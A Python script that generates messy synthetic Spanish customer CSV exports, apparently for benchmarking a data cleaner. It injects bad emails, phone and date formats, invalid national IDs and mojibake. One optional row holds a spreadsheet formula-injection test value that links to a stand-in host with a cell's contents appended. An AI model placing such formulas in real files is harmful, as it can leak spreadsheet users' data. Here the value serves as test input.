"""Generate a messy synthetic customer export like the ones Spanish CRMs produce.

    python bench/gen_customers.py N OUT.csv [--seed S] [--encoding cp1252] [--delimiter ';'] [--broken]

Deterministic for a seed. Mess injected on purpose: stray and double spaces, upper-case and
NFD-decomposed names, mojibake, email variants (case, mailto:, typos, disposable, role, broken
syntax), phones in many formats, dates as dd/mm/yyyy, ISO, Excel serials and impossible days,
NIF/NIE with wrong check letters, postal codes that lost their leading zero, decimal commas,
consent spellings, repeated ids, and (with --broken) ragged and badly quoted lines.
"""

from __future__ import annotations

import argparse
import random
import unicodedata
from datetime import date, timedelta
from pathlib import Path

FIRST = ["José", "María", "Antonio", "Carmen", "Francisco", "Ana", "Manuel", "Lucía", "David", "Laura", "Javier",
         "Marta", "Jesús", "Cristina", "Sergio", "Elena", "Pablo", "Isabel", "Jorge", "Pilar", "Íñigo", "Begoña",
         "Núria", "Jordi", "Xabier", "Ainhoa", "John", "Emma", "Pierre", "Chloé", "João", "Inês", "Hans", "Zoë"]
LAST = ["García", "Fernández", "González", "Rodríguez", "López", "Martínez", "Sánchez", "Pérez", "Gómez", "Martín",
        "Jiménez", "Ruiz", "Hernández", "Díaz", "Moreno", "Muñoz", "Álvarez", "Romero", "de la Fuente",
        "del Río", "Ibáñez", "Peña", "Castaño", "Smith", "Dubois", "Silva", "Müller", "O'Neill", "Sáenz de Buruaga"]
CITIES = [("28", "Madrid"), ("08", "Barcelona"), ("46", "València"), ("41", "Sevilla"), ("48", "Bilbao"),
          ("29", "Málaga"), ("50", "Zaragoza"), ("15", "A Coruña"), ("07", "Palma"), ("35", "Las Palmas")]
DOMAINS = ["gmail.com", "hotmail.com", "hotmail.es", "yahoo.es", "outlook.es", "telefonica.net", "icloud.com",
           "empresa.es", "movistar.es"]
TYPOS = ["gmial.com", "hotmial.com", "gmail.con", "yahooo.es", "outlok.es"]
NIF_LETTERS = "TRWAGMYFPDXBNJZSQVHLCKE"
CONSENT = ["Sí", "No", "S", "N", "1", "0", "yes", "no", "", "opt-in", "true", "false"]


def nif(number: int) -> str:
    return f"{number:08d}{NIF_LETTERS[number % 23]}"


def nie(number: int) -> str:
    prefix = random.choice("XYZ")
    full = int("XYZ".index(prefix).__str__() + f"{number:07d}")
    return f"{prefix}{number:07d}{NIF_LETTERS[full % 23]}"


def mojibake(text: str) -> str:
    return text.encode("utf-8").decode("cp1252", errors="replace")


def messy_name(rng: random.Random, name: str) -> str:
    r = rng.random()
    if r < 0.08:
        return name.upper()
    if r < 0.12:
        return "  " + name + " "
    if r < 0.15:
        return name.replace(" ", "  ")
    if r < 0.17:
        return mojibake(name)
    if r < 0.19:
        return unicodedata.normalize("NFD", name)
    if r < 0.21:
        return name.lower()
    return name


def ascii_fold(text: str) -> str:
    return "".join(c for c in unicodedata.normalize("NFKD", text) if not unicodedata.combining(c)).lower()


def row(rng: random.Random, i: int, today: date) -> list[str]:
    first, last = rng.choice(FIRST), rng.choice(LAST)
    last2 = rng.choice(LAST) if rng.random() < 0.6 else ""
    surname = f"{last} {last2}".strip()
    local = f"{ascii_fold(first)}.{ascii_fold(last).replace(' ', '').replace(chr(39), '')}{rng.randint(1, 9999)}"
    domain = rng.choice(DOMAINS)
    r = rng.random()
    if r < 0.03:
        email = f"{local}@{rng.choice(TYPOS)}"
    elif r < 0.05:
        email = f"{local}@@{domain}" if rng.random() < 0.5 else f"{local}{domain}"
    elif r < 0.06:
        email = f"{local}@mailinator.com"
    elif r < 0.07:
        email = f"{rng.choice(['info', 'ventas', 'contacto', 'admin'])}@{domain}"
    elif r < 0.10:
        email = f" {local.upper()}@{domain.upper()} "
    elif r < 0.11:
        email = f"mailto:{local}@{domain}"
    elif r < 0.14:
        email = ""
    else:
        email = f"{local}@{domain}"
    mobile = f"6{rng.randint(10000000, 99999999)}"
    r = rng.random()
    if r < 0.25:
        phone = f"{mobile[:3]} {mobile[3:5]} {mobile[5:7]} {mobile[7:]}"
    elif r < 0.40:
        phone = f"+34 {mobile[:3]}-{mobile[3:6]}-{mobile[6:]}"
    elif r < 0.50:
        phone = f"0034{mobile}"
    elif r < 0.55:
        phone = f"(91) {rng.randint(100, 999)} {rng.randint(10, 99)} {rng.randint(10, 99)}"
    elif r < 0.58:
        phone = str(rng.randint(1000, 99999))
    elif r < 0.63:
        phone = ""
    else:
        phone = mobile
    born = date(1940, 1, 1) + timedelta(days=rng.randint(0, 365 * 65))
    r = rng.random()
    if r < 0.55:
        birth = born.strftime("%d/%m/%Y")
    elif r < 0.80:
        birth = born.isoformat()
    elif r < 0.85:
        birth = str((born - date(1899, 12, 30)).days)
    elif r < 0.87:
        birth = f"31/02/{born.year}"
    elif r < 0.88:
        birth = (today + timedelta(days=rng.randint(1, 900))).strftime("%d/%m/%Y")
    else:
        birth = ""
    number = rng.randint(1, 99_999_999)
    r = rng.random()
    if r < 0.75:
        national_id = nif(number)
    elif r < 0.85:
        national_id = nie(number % 10_000_000)
    elif r < 0.90:
        good = nif(number)
        national_id = good[:-1] + NIF_LETTERS[(NIF_LETTERS.index(good[-1]) + 1) % 23]
    elif r < 0.93:
        national_id = f"{good[:8]}-{good[8].lower()}" if (good := nif(number)) else ""
    else:
        national_id = ""
    prov, city = rng.choice(CITIES)
    postal = f"{prov}{rng.randint(0, 999):03d}"
    r = rng.random()
    if r < 0.04 and postal.startswith("0"):
        postal = postal[1:]
    elif r < 0.05:
        postal = f"6{rng.randint(0, 9999):04d}"
    country = rng.choices(["ES", "es", "España", "PT", "FR", ""], [80, 5, 3, 4, 3, 5])[0]
    signup = today - timedelta(days=rng.randint(30, 3650))
    last_order = signup + timedelta(days=rng.randint(0, (today - signup).days))
    last_order_s = last_order.strftime("%d/%m/%Y") if rng.random() < 0.9 else ""
    amount = rng.randint(0, 500_000) / 100
    r = rng.random()
    if r < 0.6:
        spent = f"{amount:,.2f}".replace(",", "X").replace(".", ",").replace("X", ".")
    elif r < 0.9:
        spent = f"{amount:.2f}".replace(".", ",")
    else:
        spent = f"{amount:.2f}"
    return [f"C{i:07d}", messy_name(rng, first), messy_name(rng, surname), email, phone, birth, national_id,
            postal, messy_name(rng, city), country, signup.strftime("%d/%m/%Y"), last_order_s, spent,
            rng.choice(CONSENT)]


HEADER = ["customer_id", "first_name", "last_name", "email", "phone", "birth_date", "national_id", "postal_code",
          "city", "country", "signup_date", "last_order_date", "total_spent", "email_consent"]


def quote(value: str, delimiter: str) -> str:
    if any(ch in value for ch in (delimiter, '"', "\n", "\r")):
        return '"' + value.replace('"', '""') + '"'
    return value


def generate(n: int, out: Path, *, seed: int = 7, encoding: str = "utf-8", delimiter: str = ",",
             broken: bool = False, today: date = date(2026, 11, 1)) -> None:
    rng = random.Random(seed)
    random.seed(seed)
    lines = [delimiter.join(HEADER)]
    for i in range(1, n + 1):
        fields = row(rng, i, today)
        if rng.random() < 0.01 and i > 1:
            fields[0] = f"C{i - 1:07d}"  # a repeated id
        lines.append(delimiter.join(quote(f, delimiter) for f in fields))
    if broken:
        lines.insert(5, lines[4] + delimiter + "extra" + delimiter + "fields")
        broken_quote = ["C9999998", '"Ana', 'Broken quote"x', *[""] * 11]
        lines.insert(9, delimiter.join(broken_quote))
        # a multi-line address-like value and a formula-injection attempt, both legitimate CSV
        extra = ["C9999999", '=HYPERLINK("http://x.example/?"&A1,"clic")', "Pérez\nGarcía", "ana@example.org",
                 "", "", "", "28001", "Madrid", "ES", "01/01/2020", "", "0", "No"]
        lines.append(delimiter.join(quote(f, delimiter) for f in extra))
    data = "\r\n".join(lines) + "\r\n"
    out.parent.mkdir(parents=True, exist_ok=True)
    out.write_bytes(data.encode(encoding, errors="replace"))


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("rows", type=int)
    parser.add_argument("out", type=Path)
    parser.add_argument("--seed", type=int, default=7)
    parser.add_argument("--encoding", default="utf-8")
    parser.add_argument("--delimiter", default=",")
    parser.add_argument("--broken", action="store_true")
    args = parser.parse_args()
    generate(args.rows, args.out, seed=args.seed, encoding=args.encoding, delimiter=args.delimiter,
             broken=args.broken)


if __name__ == "__main__":
    main()
